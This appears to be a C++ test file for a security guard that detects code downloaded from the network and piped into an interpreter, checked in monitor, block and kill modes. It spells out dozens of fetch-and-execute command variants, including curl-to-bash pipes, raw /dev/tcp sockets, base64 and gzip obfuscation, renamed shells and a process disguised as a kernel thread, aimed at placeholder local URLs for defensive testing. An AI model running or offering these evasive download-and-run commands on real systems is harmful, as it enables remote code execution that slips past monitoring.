// SPDX-License-Identifier: Apache-2.0
// Code from the network reaches an interpreter: the attacks, in each mode.
#include <gtest/gtest.h>

#include "chain_attack.h"

namespace davylamp::test {
namespace {

// Until the script has been served.
#define ONCE_SERVED "until [ -e @D/served ]; do sleep 0.01; done"

const Attack kAttacks[] = {
    {"curl | bash", "curl -s @URL | bash"},
    {"the downloader is slow", "(sleep 0.3; exec curl -s @URL) | bash", Order::reader_first},
    {"the shell is slow", "curl -s @URL | (" ONCE_SERVED "; exec bash)", Order::reader_late},
    {"curl | sh", "curl -s @URL | sh"},
    {"curl | sh -", "curl -s @URL | sh -"},
    {"curl | bash -s", "curl -s @URL | bash -s -- a b"},
    {"curl | bash /dev/stdin", "curl -s @URL | bash /dev/stdin"},
    // One try: wget takes a refusal for a passing trouble, and has twenty.
    {"wget | bash", "wget -t1 -qO- @URL | bash"},
    {"busybox", "busybox wget -t1 -qO- @URL | busybox sh"},
    {"a renamed curl", "@D/fetcher -s @URL | bash"},
    {"a static downloader", "@STATIC | bash"},
    {"python downloads", "/usr/bin/python3 -c \"import urllib.request as u, sys; "
                         "sys.stdout.write(u.urlopen('@URL').read().decode())\" | bash"},
    {"perl downloads",
     "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:\" . "
     "(split m{[:/]}, \"@URL\")[4]) or die; print $s \"GET /x.sh HTTP/1.0\\r\\n\\r\\n\"; "
     "1 while (($l = <$s>) ne \"\\r\\n\"); print <$s>' | bash"},
    {"python interprets", "curl -s @PYTHON_URL | /usr/bin/python3"},
    {"python interprets -", "curl -s @PYTHON_URL | /usr/bin/python3 -"},
    {"base64 and gunzip", "curl -s @B64_URL | base64 -d | gunzip | sh"},
    {"five stages", "curl -s @B64_URL | base64 -d | gunzip | tee @D/copy | cat | sh"},
    {"tee in the middle", "curl -s @URL | tee @D/copy | bash"},
    {"bash <()", "bash <(curl -s @URL)"},
    {"bash < <()", "bash < <(curl -s @URL)"},
    {"curl or wget", "(curl -fsS @URL || wget -t1 -qO- @URL) | bash -sh", Order::fallback},
    {"a function in the pipe", "fetch() { curl -s $1; }; fetch @URL | bash"},
    {"disowned", "curl -s @URL | bash & disown"},
    {"setsid", "setsid bash -c 'curl -s @URL | bash' &"},
    {"nohup", "nohup bash -c 'curl -s @URL | bash' > /dev/null 2>&1 &"},
    {"a fifo on stdin", "mkfifo @D/fifo; curl -s @URL > @D/fifo & bash < @D/fifo"},
    {"curl -o >()", "curl -s -o >(bash) @URL"},
    {"curl -o a high descriptor", "curl -s -o /dev/fd/77 @URL 77> >(exec bash)"},
    {"tee a high descriptor", "curl -s @URL | tee /proc/self/fd/100 100> >(bash) > /dev/null"},
    {"curl -o /dev/stderr", "curl -s -o /dev/stderr @URL 2>&1 > /dev/null | bash"},
    {"twenty stages", "curl -s @URL |cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|"
                      "cat|cat|cat|cat|cat| sh"},
    {"a filter with a file and its stdin", "curl -s @URL | cat /dev/null - | bash"},
    {"a filter reads its stdin by a link",
     "ln -s /dev/stdin @D/link; curl -s @URL | cat @D/link | bash"},
    {"sed with a file runs cat", "echo > @D/own; curl -s @URL | sed '1e cat' @D/own | bash"},
    {"sed with a file runs what it makes",
     "echo > @D/own; curl -s @URL | sed s/.*/cat/e @D/own | bash"},
    {"sed with a script runs cat",
     "echo > @D/own; echo 1e cat > @D/f; curl -s @URL | sed -f @D/f @D/own | bash"},
    {"awk drops the file that it was given",
     "echo > @D/own; curl -s @URL | awk 'BEGIN { ARGC = 1 } 1' @D/own | bash"},
    {"a filter in a group", "curl -s @URL | { sed p | sed '$!N; s/\\n.*//' | bash; }"},
    {"tee >()", "curl -s @URL | tee >(bash) > /dev/null"},
    {"a dev tcp subshell", "(exec 3<>@TCP; @GET >&3; cat <&3) | bash"},
    {"dev tcp and cat", "exec 3<>@TCP; @GET >&3; cat <&3 | bash"},
    {"dev tcp by a loop",
     "(exec 3<>@TCP; @GET >&3; while read -r line <&3; do echo \"$line\"; done) | bash"},
    {"a socket as stdin, by the second output",
     "exec 3<>@TCP; @GET >&3; tee >(sed '1,/^.$/d' | bash) <&3 | cat > /dev/null; sleep 0.5",
     Order::reader_late},
    {"a socket as stdin", "exec 3<>@TCP; @GET >&3; bash <&3", Order::reader_late, "CHAIN-002"},
    {"env", "curl -s @URL | env -i /bin/bash"},
    {"timeout", "timeout 20 curl -s @URL | timeout 20 bash"},
    {"exec -a", "curl -s @URL | (exec -a '[kthreadd]' bash)"},
    {"curl | bash /proc/self/fd/0", "curl -s @URL | bash /proc/self/fd/0"},
    {"curl | bash /proc/PID/fd/0", "curl -s @URL | (exec bash /proc/$BASHPID/fd/0)"},
    {"curl | bash /dev/../dev/fd/0", "curl -s @URL | bash /dev/../dev/fd/0"},
    {"curl | perl by a relative path", "curl -s @PERL_URL | (cd /dev; exec perl ./stdin)"},
    {"perl interprets", "curl -s @PERL_URL | perl"},
    {"ruby interprets", "curl -s @RUBY_URL | ruby"},
    {"php interprets", "curl -s @PHP_URL | php"},
    {"php appends", "echo '<?php echo 1;' > @D/own.php; curl -s @PHP_URL | "
                    "php -d allow_url_include=1 -d auto_append_file=php://stdin @D/own.php"},
    {"node interprets", "curl -s @NODE_URL | node -"},
    {"awk interprets -f -", "curl -s @AWK_URL | awk -f -"},
    {"busybox awk interprets", "curl -s @AWK_URL | busybox awk -f /dev/stdin"},
    {"make interprets -f -", "curl -s @MAKE_URL | make -s -f -"},
    {"tclsh interprets", "curl -s @TCL_URL | tclsh"},
    {"a bash under another name", "cp /bin/bash @D/worker; curl -s @URL | @D/worker"},
    {"a link to bash under another name", "ln /bin/bash @D/worker; curl -s @URL | @D/worker"},
    {"a static busybox under another name",
     "cp /bin/busybox @D/worker; curl -s @URL | (exec -a sh @D/worker)"},
    {"a copied bash", "cp /bin/bash @D/bash; curl -s @URL | @D/bash"},
};

using Chain = ChainAttack;

TEST_P(Chain, Attack) { expect_stopped(std::get<0>(GetParam()), std::get<1>(GetParam())); }

INSTANTIATE_TEST_SUITE_P(Live, Chain,
                         testing::Combine(testing::ValuesIn(kAttacks),
                                          testing::Values(Mode::monitor, Mode::block, Mode::kill)),
                         attack_name);

// What tells kill from block: a downloader that would outlive the refusal, and the shell.
TEST(ChainEnds, BlockLeavesTheDownloaderAlive)
{
    ChainSite site;
    GuardResult result =
        run_guard(Mode::block, site.fill("(sleep 0.3; exec @STATIC @D/alive) | bash"));
    EXPECT_TRUE(result.first("CHAIN-001").did("refuse"));
    EXPECT_TRUE(exists(site.folder / "alive")) << result.out;
    EXPECT_FALSE(exists(site.marker()));
}

TEST(ChainEnds, KillEndsBothEnds)
{
    ChainSite site;
    GuardResult result = run_guard(
        Mode::kill, site.fill("(sleep 0.3; exec @STATIC @D/alive) | bash; echo ${PIPESTATUS[@]} > "
                              "@D/status"));
    Finding finding = result.first("CHAIN-001");
    EXPECT_TRUE(finding.did("refuse"));
    EXPECT_FALSE(exists(site.folder / "alive")) << result.out;
    EXPECT_EQ(slurp(site.folder / "status"), "137 137\n");
    EXPECT_EQ(finding.pids("interpreter").size(), 1u);
    EXPECT_EQ(finding.pids("downloader").size(), 1u);
}

} // namespace
} // namespace davylamp::test
